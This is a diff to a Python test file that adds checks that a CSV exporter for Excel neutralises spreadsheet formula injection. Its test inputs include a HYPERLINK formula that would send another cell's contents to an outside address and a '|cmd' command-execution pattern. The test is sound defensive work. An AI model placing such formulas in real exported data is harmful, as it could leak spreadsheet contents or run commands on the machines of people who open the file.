@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from begrepp.exports import spreadsheet
-from begrepp.exports.spreadsheet import DataTable, csv_text, write_xlsx
+from begrepp.exports.spreadsheet import DataTable, csv_text, excel_csv, write_xlsx
 
 TRICKY = ("C50.9", 'citat " och, komma', "=1+1", "0012", "http://example.org/", "rad\nbryts", "åäö 😀")
 
@@ -58,3 +58,34 @@ def test_csv_is_read_back_as_written() -> None:
     parts = list(csv_text(_table(*rows)))
     assert len(parts) > 1
     assert [tuple(row) for row in csv.reader(io.StringIO("".join(parts), newline=""))] == [("code", "n"), *rows]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://example.org/?"&A2;"klick")', None),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+1+1", "'+1+1"),
+        ("-2+3|cmd", "'-2+3|cmd"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("＝1+1", "'＝1+1"),
+        ("-INF", "'-INF"),
+        ("+46 70 123", "'+46 70 123"),
+        ("-12,5", "-12,5"),
+        ("+1", "+1"),
+        ("-1.5E-7", "-1.5E-7"),
+        ("-", "-"),
+        ("a=b", "a=b"),
+        (" =1", " =1"),
+        ("C50.9", "C50.9"),
+    ],
+)
+def test_no_text_is_a_formula_in_the_csv_for_excel(text: str, shown: str | None) -> None:
+    written = "".join(excel_csv(["a", text], [[text, "1"]])).removeprefix("\ufeff")
+    expected = shown if shown is not None else f"'{text}"
+    read = [*csv.reader(io.StringIO(written, newline=""), delimiter=";")]
+    assert read == [["a", expected], [expected, "1"]]
+    assert "".join(csv_text(DataTable(name="t", columns=["a"], rows=[[text]]))).count("'") == 0
